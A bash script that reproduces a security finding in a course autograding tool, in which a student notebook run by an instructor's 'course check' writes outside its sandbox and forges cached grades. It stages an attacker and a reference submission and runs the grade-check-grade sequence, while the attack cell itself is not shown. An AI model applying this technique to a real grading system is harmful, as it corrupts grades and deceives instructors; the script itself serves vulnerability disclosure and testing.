#!/bin/bash
# Reproduce F1 (atk05): a student's notebook run by plain `course check` forges cached grades.
# Needs the course copy /tmp/at/course (cp -r /work/main/assignments /tmp/at/course) and /tmp/at/solutions.
# Builds /tmp/at/inbox5/eve (release stubs + the attack cell) and /tmp/at/inbox5/victor (the key), then runs the
# three steps of NOTES.md. The attack cell writes only under /tmp/at/ (a real one would not be so limited).
set -e
HERE=$(cd "$(dirname "$0")" && pwd)
PY=/work/main/.venv/bin/python
COURSE=/work/main/.venv/bin/course
rm -rf /tmp/at/inbox5 /tmp/at/out5
$PY "$HERE/outputs/mksub.py" "$HERE/a1_attention/atk05_course_check_unjailed.py" /tmp/at/inbox5/eve >/dev/null
$PY - <<'PY'
import json
rel = json.load(open('/tmp/at/course/release/a1_attention/a1_attention.ipynb'))
path = '/tmp/at/inbox5/eve/a1_attention.ipynb'
nb = json.load(open(path))
stubs = {c['metadata'].get('nbgrader', {}).get('grade_id'): c['source'] for c in rel['cells']}
for c in nb['cells']:
    if c['cell_type'] == 'code' and c['metadata'].get('nbgrader', {}).get('solution'):
        c['source'] = stubs[c['metadata']['nbgrader']['grade_id']]
json.dump(nb, open(path, 'w'), indent=1)
PY
$PY "$HERE/outputs/mksub.py" "$HERE/a1_attention/ctl_key.py" /tmp/at/inbox5/victor >/dev/null
echo "step 1: grade"; $COURSE --course /tmp/at/course grade a1_attention /tmp/at/inbox5 --out /tmp/at/out5 --jobs 1 --dry-run | head -3
echo "step 2: the instructor checks the held notebook"; $COURSE --course /tmp/at/course check /tmp/at/inbox5/eve/a1_attention.ipynb || true
echo "step 3: grade again"; $COURSE --course /tmp/at/course grade a1_attention /tmp/at/inbox5 --out /tmp/at/out5 --jobs 1 --dry-run | grep -E "from the cache|^  (eve|victor) "
cat /tmp/at/out5/grades.csv
rm -f /tmp/at/course/WRITTEN_BY_STUDENT_CODE_UNDER_COURSE_CHECK
